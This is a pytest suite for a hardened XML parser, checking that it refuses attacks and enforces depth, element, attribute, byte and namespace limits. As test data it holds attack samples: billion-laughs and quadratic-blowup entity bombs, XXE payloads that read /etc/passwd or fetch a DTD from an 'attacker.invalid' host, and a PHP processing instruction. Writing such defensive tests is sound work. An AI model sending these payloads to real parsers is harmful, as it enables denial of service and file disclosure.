"""The hardened parser refuses every classic XML attack with a clear one-line reason."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from temix.xmlsafe import XmlRejected, parse_bytes

NORMAL = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment is fine -->
<pyld:eiCancelTender xmlns:pyld="http://docs.oasis-open.org/ns/energyinterop/201110/payloads"
    xmlns:ei="http://docs.oasis-open.org/ns/energyinterop/201110">
  <pyld:requestID>r-1</pyld:requestID>
  <ei:tenderID>t-&amp;-1</ei:tenderID>
</pyld:eiCancelTender>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

DOCTYPE_ATTACKS = {
    "billion-laughs": BILLION_LAUGHS,
    "quadratic-blowup": (
        b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]><r>' + b"&a;" * 1000 + b"</r>"
    ),
    "xxe-general-entity": (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    "xxe-parameter-entity": (
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/evil.dtd"> %p;]><r/>'
    ),
    "external-dtd": b'<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd"><r/>',
    # Kills a process that parses it with a schema-bound lxml parser (see TOOLCHAIN.md).
    "internal-entity": b'<!DOCTYPE r [<!ENTITY v "hello">]><r>&v;</r>',
    "bare-doctype": b"<!DOCTYPE r><r/>",
    "doctype-in-utf16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r><r/>'.encode("utf-16"),
}


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


def attributes(count: int) -> bytes:
    return b"<r><e " + b" ".join(b'a%d="1"' % index for index in range(count)) + b"/></r>"


def elements(count: int) -> bytes:
    return b"<r>" + b"<e/>" * (count - 1) + b"</r>"


def refusal(data: bytes, **limits: int) -> str:
    with pytest.raises(XmlRejected) as raised:
        parse_bytes(data, **limits)
    reason = str(raised.value)
    assert reason == raised.value.reason
    assert reason and "\n" not in reason
    return reason


def test_normal_document_parses():
    tree = parse_bytes(NORMAL)
    assert isinstance(tree, etree._ElementTree)
    assert tree.getroot().tag.endswith("}eiCancelTender")
    assert tree.getroot()[1].text == "t-&-1"


@pytest.mark.parametrize("data", DOCTYPE_ATTACKS.values(), ids=DOCTYPE_ATTACKS.keys())
def test_any_doctype_is_refused(data):
    assert "DOCTYPE" in refusal(data)


def test_refusal_is_a_value_error():
    assert issubclass(XmlRejected, ValueError)


def test_undeclared_entity_is_a_syntax_error_not_a_lookup():
    assert "Entity 'x' not defined" in refusal(b"<r>&x;</r>")


@pytest.mark.parametrize(
    "data",
    [b'<?xml-stylesheet href="x.xsl"?><r/>', b"<r><a><?php evil() ?></a></r>", b"<r/><?after?>"],
    ids=["before-root", "inside", "after-root"],
)
def test_processing_instruction_is_refused(data):
    assert "processing instruction" in refusal(data)


def test_xml_declaration_is_not_a_processing_instruction():
    parse_bytes(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><r/>')


def test_depth_limit():
    parse_bytes(nested(100))
    assert "deeper than 100" in refusal(nested(101))
    assert "deeper than 5" in refusal(nested(6), max_depth=5)
    assert "depth" in refusal(nested(10_000))


def test_attribute_count_limit_is_per_element():
    parse_bytes(attributes(500))
    assert "501 attributes" in refusal(attributes(501))
    parse_bytes(b"<r>" + b'<e a="1" b="2"/>' * 400 + b"</r>")
    assert "over the limit of 3" in refusal(attributes(4), max_attributes=3)


def test_element_count_limit():
    parse_bytes(elements(200_000))
    assert "more than 200000 elements" in refusal(elements(200_001))
    assert "more than 10 elements" in refusal(elements(11), max_elements=10)


def test_byte_cap_is_checked_before_parsing():
    too_big = b"<r>" + b" " * (1024 * 1024)  # also unclosed: the size is what is reported
    assert "over the limit of 1048576 bytes" in refusal(too_big)
    assert "over the limit of 100 bytes" in refusal(NORMAL, max_bytes=100)
    parse_bytes(NORMAL, max_bytes=len(NORMAL))


def test_malformed_input_reports_line_and_column():
    reason = refusal(b"<r>\n  <a>\n</r>")
    assert reason.startswith("not well-formed XML (line 3, column ")
    assert "mismatch" in reason


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml at all", b"\xff\xfe\x00<"])
def test_non_xml_is_refused(data):
    assert refusal(data).startswith("not well-formed XML")


def test_text_is_not_bytes():
    with pytest.raises(TypeError):
        parse_bytes("<r/>")  # type: ignore[arg-type]


@given(st.binary(max_size=200))
def test_arbitrary_bytes_either_parse_or_are_refused(data):
    try:
        parse_bytes(data)
    except XmlRejected as error:
        assert "\n" not in str(error)


def test_namespace_declarations_are_capped_in_every_encoding():
    declarations = " ".join(f'xmlns:n{number}="urn:n{number}"' for number in range(11))
    document = f"<r {declarations}/>"
    assert parse_bytes(document.encode(), max_namespaces=11) is not None
    for encoding in ("utf-8", "utf-16"):
        with pytest.raises(XmlRejected, match="11 namespace declarations, over the limit of 10"):
            parse_bytes(document.encode(encoding), max_namespaces=10)
